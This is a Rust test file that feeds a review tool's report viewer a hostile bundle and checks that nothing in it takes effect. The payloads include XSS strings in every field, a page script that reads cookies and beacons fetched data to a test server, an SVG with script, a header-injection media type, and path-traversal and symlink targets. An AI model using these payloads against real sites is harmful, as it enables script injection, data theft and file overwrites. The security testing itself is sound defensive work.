//! A bundle that somebody wrote who means harm: names that are markup, pages with scripts, files of
//! the wrong kind, and proposals that reach further than they may.

use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use gate_core::{Change, Digest, Proposal};
use serde_json::{Value, json};

use crate::environment::Environment;
use crate::review_browser::{Browser, ENTER};
use crate::reviewing::{Answered, Review, two_new_pages};
use crate::site::{Answer, Site};

/// What a text would do if it were read as markup: in an element, in an attribute, in a script.
const MARKUP: &str = "</script></title></textarea><hit-me></hit-me>\
    <img src=x onerror=\"window.hit = 1\"><script>window.hit = 1</script>\
    \" autofocus onfocus=\"window.hit = 1\" x=' \
    `<hit-me></hit-me>`";

/// A bundle, and the workspace that it is looked at in.
struct Bundle {
    environment: Environment,
    report: Value,
}

impl Bundle {
    /// That of an honest run with two proposals.
    fn honest() -> Bundle {
        let (environment, _site) = two_new_pages();
        assert_eq!(environment.gate(&["run", "--report", "bundle=bundle"]).code, 3);
        let path = environment.path().join("bundle/report.json");
        let report = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
        Bundle { environment, report }
    }

    /// Puts a file into its store, and answers what a check says of it.
    fn keep(&self, role: &str, media_type: &str, bytes: &[u8]) -> Value {
        let digest = Digest::of(bytes);
        self.environment.write(&format!("bundle/store/{digest}"), "");
        #[expect(clippy::disallowed_methods, reason = "a test makes its own files")]
        std::fs::write(self.store().join(digest.to_string()), bytes).unwrap();
        json!({ "role": role, "label": MARKUP, "media_type": media_type, "digest": digest,
                "bytes": bytes.len() })
    }

    fn store(&self) -> PathBuf {
        self.environment.path().join("bundle/store")
    }

    /// Adds a check with these files.
    fn check(&mut self, id: &str, evidence: &[Value]) {
        let mut check = self.report["gates"][0]["checks"][0].clone();
        check["id"] = json!(id);
        check["evidence"] = json!(evidence);
        self.report["gates"][0]["checks"].as_array_mut().unwrap().push(check);
    }

    fn write(&self) {
        self.environment.write("bundle/report.json", &self.report.to_string());
    }

    /// The pages as files; their folder.
    fn pages(&self) -> PathBuf {
        let written = self.environment.gate(&["report", "bundle", "--out", "pages"]);
        assert_eq!(written.code, 0, "{}", written.stderr);
        self.environment.path().join("pages")
    }
}

/// A bundle in which everything that somebody can name is markup.
fn all_markup() -> Bundle {
    let mut bundle = Bundle::honest();
    let picture = bundle.report["gates"][0]["checks"][0]["evidence"][0]["digest"].clone();
    let area = json!({ "x": 1, "y": 2, "width": 30, "height": 40, "pixels": 9, "kind": MARKUP,
                       "fingerprint": MARKUP, "cause": MARKUP });
    let mut compared = bundle.keep(
        "diff",
        "application/json",
        json!({ "baseline": picture, "candidate": picture, "picture": picture, "width": 100,
                "height": 100, "regions": [area] })
        .to_string()
        .as_bytes(),
    );
    compared["refs"] = json!([picture]);
    let column = json!({ "name": MARKUP, "unit": MARKUP });
    let rows = json!({ "columns": [column], "rows": [[MARKUP], [{ MARKUP: MARKUP }]],
                       "note": MARKUP });
    let series = json!({ "x": { "name": MARKUP, "unit": MARKUP },
        "series": [{ "name": MARKUP, "unit": MARKUP, "points": [[0.0, 1.0], [1.0, 2.0]] }],
        "limits": [{ "name": MARKUP, "value": 1.5 }] });
    let message = json!({ "status": 200, "headers": { MARKUP: [MARKUP] }, "body": MARKUP });
    let exchange = json!({
        "request": { "method": MARKUP, "url": MARKUP, "headers": { MARKUP: [MARKUP] },
                     "body": MARKUP },
        "response": message, "expected": message,
        "differences": [{ "path": MARKUP, "kind": MARKUP, "before": MARKUP, "after": MARKUP }],
    });
    let page = json!({ "title": MARKUP, "blocks": [
        { "heading": MARKUP }, { "text": MARKUP }, { "list": [MARKUP] }, { "table": rows },
        { "series": series },
        { "form": { "tool": MARKUP, "title": MARKUP, "fields": [] } },
    ] });
    let mut files = vec![bundle.keep("log", "text/plain", MARKUP.as_bytes())];
    for (role, value) in
        [("table", &rows), ("series", &series), ("exchange", &exchange), ("page", &page)]
    {
        files.push(bundle.keep(role, "application/json", value.to_string().as_bytes()));
    }
    // Two of each, so that there is something to choose from.
    bundle.check(&format!("compared {MARKUP}"), std::slice::from_ref(&compared));
    bundle.check(&format!("other {MARKUP}"), &files);
    let gate = &mut bundle.report["gates"][0];
    gate["name"] = json!(MARKUP);
    gate["kind"] = json!(MARKUP);
    // What is decided is kept beside the spec, so this has to be a name of the workspace.
    gate["spec"]["path"] = json!(MARKUP.replace('/', ""));
    gate["evidence"] = json!(files);
    let failed = json!({ "failed": "error", "reason": MARKUP, "advice": MARKUP });
    gate["attempts"].as_array_mut().unwrap().push(failed);
    for (at, check) in (0..).zip(gate["checks"].as_array_mut().unwrap()) {
        for part in ["title", "message", "advice"] {
            check[part] = json!(MARKUP);
        }
        check["facets"] = json!({ MARKUP: format!("{at} {MARKUP}") });
        check["metrics"] =
            json!([{ "name": MARKUP, "value": 1.0, "unit": MARKUP, "limit": { "at_most": 2.0 } }]);
    }
    for proposal in gate["proposals"].as_array_mut().unwrap() {
        proposal["title"] = json!(MARKUP);
        proposal["reason"] = json!(MARKUP);
    }
    bundle.report["run"] = json!(MARKUP);
    bundle.report["notes"] = json!([MARKUP]);
    bundle.report["skipped"] = json!([{ "gate": MARKUP, "reason": MARKUP }]);
    bundle.write();
    bundle
}

/// That every text of a page is a text.
fn unharmed(browser: &Browser, page: &str) {
    let found = browser.get(
        "[...document.querySelectorAll('*')].filter((one) => \
         one.matches('hit-me, img[src=x], script:not([src]):not([type=\"application/json\"])') || \
         one.getAttributeNames().some((name) => name.startsWith('on'))) \
         .map((one) => one.outerHTML)",
    );
    assert_eq!(found, json!([]), "{page}");
    assert_eq!(browser.get("typeof window.hit"), "undefined", "{page}");
    let text = browser.text("body");
    assert!(text.contains("<hit-me></hit-me>"), "{page} does not show it:\n{text}");
}

/// Looks at every item, and at what is asked before all of them are decided on.
fn look_around(browser: &Browser, page: &str) {
    let items = browser.get("gate.data.items.length").as_u64().unwrap();
    assert_eq!(items, 4, "{page}");
    for _ in 0..items {
        browser.settled();
        unharmed(browser, page);
        browser.keys("j");
    }
    browser.keys("G");
    browser.until("document.getElementById('confirm-dialog').open");
    unharmed(browser, page);
    // A reason and a name of the same sort, decided on and shown again.
    browser.click("#confirm-reject");
    browser.until("document.getElementById('why-dialog').open");
    let markup = json!(MARKUP);
    browser.get(&format!("document.getElementById('reason').value = {markup}"));
    browser.get(&format!("document.getElementById('by').value = {markup}"));
    browser.keys(ENTER);
    browser.until("document.getElementById('count').innerText.includes(', 0 open')");
    browser.get("gate.go({ item: gate.data.items.find((item) => item.proposal).id })");
    browser.settled();
    let state = browser.text("#state");
    assert!(state.contains("by </script>") && state.contains("“</script>"), "{state}");
    unharmed(browser, page);
}

#[test]
fn no_name_becomes_markup() {
    let bundle = all_markup();
    // What is in one script for all pages must not leave it either: whoever decides, for one.
    let review = Review::start(&bundle.environment, &["bundle", "--by", MARKUP]);
    let browser = Browser::at(&review);
    let pages = bundle.pages();
    let on_disk = |name: &str| format!("file://{}/{name}", pages.display());
    for url in [review.page("review.html"), on_disk("review.html")] {
        browser.show(&url);
        look_around(&browser, &url);
    }
    for name in ["index.html", "gate-1.html"] {
        for url in [review.page(name), on_disk(name)] {
            browser.go(&url);
            unharmed(&browser, &url);
        }
    }
}

/// A page that shows in its title and its text whether it has run, and asks for `beacon`.
fn loud(beacon: &str) -> String {
    format!(
        "<!doctype html><title>quiet</title><p id=p>quiet</p><img src=\"{beacon}\">\
         <img src=x onerror=\"document.title = 'loud'\"><script>document.title = 'loud'; \
         let found; try {{ found = document.cookie; }} catch (error) {{ found = error; }} \
         document.getElementById('p').textContent = `loud ${{found}}`; \
         fetch('/api/items').then((answer) => answer.text()).then((items) => \
         {{ document.title = items; navigator.sendBeacon('{beacon}', items); }});</script>"
    )
}

#[test]
fn a_page_with_a_script_is_shown_and_does_not_run() {
    let asked = Arc::new(AtomicUsize::new(0));
    let count = Answer::Turns(vec!["seen".to_owned()], Arc::clone(&asked));
    let site = Site::serve(&[("/beacon", count)]);
    let mut bundle = Bundle::honest();
    let page = loud(&format!("{}/beacon", site.url));
    let html = bundle.keep("page", "text/html", page.as_bytes());
    bundle.check("loud", std::slice::from_ref(&html));
    bundle.write();
    let file = format!("evidence/{}.html", html["digest"].as_str().unwrap());

    let review = Review::start(&bundle.environment, &["bundle"]);
    let browser = Browser::at(&review);
    let pages = bundle.pages();
    let on_disk = |name: &str| format!("file://{}/{name}", pages.display());
    let quiet = |place: &str| {
        browser.until("document.readyState === 'complete'");
        let found = browser.get("[document.title, document.getElementById('p').textContent]");
        assert_eq!(found, json!(["quiet", "quiet"]), "{place}");
        assert_eq!(asked.load(Ordering::SeqCst), 0, "{place} has asked another server");
    };
    // By itself, as somebody opens the link to it.
    for url in [review.page(&file), on_disk(&file)] {
        browser.go(&url);
        quiet(&url);
    }
    // And within the page of its gate.
    for url in [review.page("gate-1.html"), on_disk("gate-1.html")] {
        browser.go(&url);
        browser.get("document.querySelector('iframe').scrollIntoView(), true");
        let sandbox = browser.get("document.querySelector('iframe').getAttribute('sandbox')");
        assert_eq!(sandbox, "", "{url}");
        browser.enter_frame("iframe");
        browser.until("document.getElementById('p')");
        quiet(&format!("within {url}"));
        assert_eq!(browser.get("window.origin"), "null", "{url}");
        browser.leave_frame();
    }
}

#[test]
fn a_file_is_served_as_what_it_is_and_no_other_is() {
    let mut bundle = Bundle::honest();
    let script = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
    let kinds = [
        ("page", "text/html", "html", "text/html; charset=utf-8"),
        ("page", "text/html; charset=utf-16", "html", "text/html; charset=utf-8"),
        ("image", "image/svg+xml", "bin", "application/octet-stream"),
        ("page", "application/xhtml+xml", "bin", "application/octet-stream"),
        ("log", "text/javascript", "txt", "text/plain; charset=utf-8"),
        ("page", "application/javascript", "bin", "application/octet-stream"),
        ("image", "image/png", "png", "image/png"),
        ("table", "application/json", "json", "application/json"),
        ("page", "text/html\r\nx: y", "txt", "text/plain; charset=utf-8"),
    ];
    let named: Vec<Value> = (0..)
        .zip(&kinds)
        .map(|(at, (role, media_type, _, _))| {
            bundle.keep(role, media_type, &[&script[..], &[b'0' + at]].concat())
        })
        .collect();
    bundle.check("files", &named);
    // In the store, a picture, and nowhere in the report.
    let shown = bundle.report["gates"][0]["checks"][0]["evidence"][0]["digest"].clone();
    let mut picture = std::fs::read(bundle.store().join(shown.as_str().unwrap())).unwrap();
    picture.push(0);
    let unnamed = bundle.keep("image", "image/png", &picture);
    let altered = bundle.keep("log", "text/plain", b"as it was");
    bundle.check("altered", std::slice::from_ref(&altered));
    bundle.write();
    let digest = |file: &Value| file["digest"].as_str().unwrap().to_owned();
    bundle.environment.write(&format!("bundle/store/{}", digest(&altered)), "as it is now");

    let review = Review::start(&bundle.environment, &["bundle"]);
    let get = |path: &str| -> Answered {
        let (host, cookie) = (&review.host, review.cookie());
        review.ask(&format!("GET /{path} HTTP/1.1\r\nhost: {host}\r\ncookie: {cookie}\r\n"))
    };
    for (file, (_, media_type, ending, served)) in named.iter().zip(kinds) {
        let answer = get(&format!("evidence/{}.{ending}", digest(file)));
        assert_eq!((answer.status, answer.header("content-type")), (200, Some(served)));
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{media_type}");
        assert_eq!(answer.header("cross-origin-resource-policy"), Some("same-origin"));
        let saved = answer.header("content-disposition").is_some();
        assert_eq!(saved, *ending == *"bin", "{media_type}");
        let policy = answer.header("content-security-policy").unwrap();
        let is_boxed = policy.starts_with("sandbox; default-src 'none';");
        assert_eq!(is_boxed, *ending == *"html", "{media_type}: {policy}");
        // Under another ending it would be another kind of file.
        for other in ["html", "js", "svg", "json", "png"].iter().filter(|other| **other != ending) {
            assert_eq!(get(&format!("evidence/{}.{other}", digest(file))).status, 404);
        }
    }
    for path in ["evidence/D.png", "evidence/D.bin", "evidence/D.json", "thumbnails/D.png"] {
        assert_eq!(get(&path.replace('D', &digest(&unnamed))).status, 404, "{path}");
    }
    let answer = get(&format!("evidence/{}.txt", digest(&altered)));
    assert_eq!(answer.status, 404, "{answer:?}");
}

#[test]
fn no_proposal_reaches_further_than_it_may() {
    let mut bundle = Bundle::honest();
    let honest = bundle.report["gates"][0]["proposals"][0].clone();
    let candidate: Digest =
        serde_json::from_value(honest["changes"][0]["candidate"].clone()).unwrap();
    let gate = honest["gate"].as_str().unwrap().to_owned();
    let paths = [
        "new.yaml",
        ".gate/new",
        "../outside.baselines/new.png",
        "specs/shop.baselines/../../new.yaml",
        "/etc/shop.baselines/new.png",
        ".git/hooks.baselines/new",
        "specs/link.baselines/new.png",
        "",
    ];
    let outside = tempfile::tempdir().unwrap();
    let link = bundle.environment.path().join("specs/link.baselines");
    std::os::unix::fs::symlink(outside.path(), link).unwrap();
    let propose = |path: &str| {
        let change = Change { path: path.to_owned(), expected: None, candidate: Some(candidate) };
        serde_json::to_value(Proposal::files(&gate, path, "new", vec![change])).unwrap()
    };
    let mut proposals: Vec<Value> = paths.iter().map(|path| propose(path)).collect();
    // The id of one, with the changes of another.
    let mut altered = propose("specs/shop.baselines/altered.png");
    altered["id"] = json!("0123456789abcdef");
    proposals.push(altered);
    bundle.report["gates"][0]["proposals"] = json!(proposals);
    bundle.write();

    let before = files_of(&bundle.environment);
    let review = Review::start(&bundle.environment, &["bundle"]);
    let wishes: Vec<Value> = proposals
        .iter()
        .map(|one| json!({ "proposal": one["id"], "said": "approved", "seen": null }))
        .collect();
    let answer = review.decide(&json!({ "decisions": wishes, "reason": "why", "by": "Kim" }));
    assert_eq!(answer.status, 200, "{answer:?}");
    let answers: Value = serde_json::from_str(&answer.body).unwrap();
    for (proposal, answer) in proposals.iter().zip(answers.as_array().unwrap()) {
        assert!(answer["refused"].is_string(), "{proposal}\n{answer}");
    }
    assert_eq!(files_of(&bundle.environment), before);
    assert_eq!(outside.path().read_dir().unwrap().count(), 0);
    drop(review);

    // What was decided stands beside the spec, and a bundle says where that is.
    bundle.report["gates"][0]["proposals"] = json!([honest]);
    for spec in ["../outside.yaml", "/etc/outside.yaml", "specs/link.baselines/outside.yaml"] {
        bundle.report["gates"][0]["spec"]["path"] = json!(spec);
        bundle.write();
        let review = Review::start(&bundle.environment, &["bundle"]);
        let wish = json!({ "proposal": honest["id"], "said": "rejected", "seen": null });
        let answer = review.decide(&json!({ "decisions": [wish], "reason": "why", "by": "Kim" }));
        assert_eq!(answer.status, 500, "{spec}: {answer:?}");
        assert_eq!(files_of(&bundle.environment), before, "{spec}");
        assert_eq!(outside.path().read_dir().unwrap().count(), 0, "{spec}");
    }
}

/// All files around a workspace that are not its own administration.
fn files_of(environment: &Environment) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut folders = vec![environment.path().to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            match path.is_dir() {
                true if path.ends_with(".gate") || path.ends_with("tmp") => {}
                true => folders.push(path),
                false => found.push(path),
            }
        }
    }
    found.sort();
    found
}
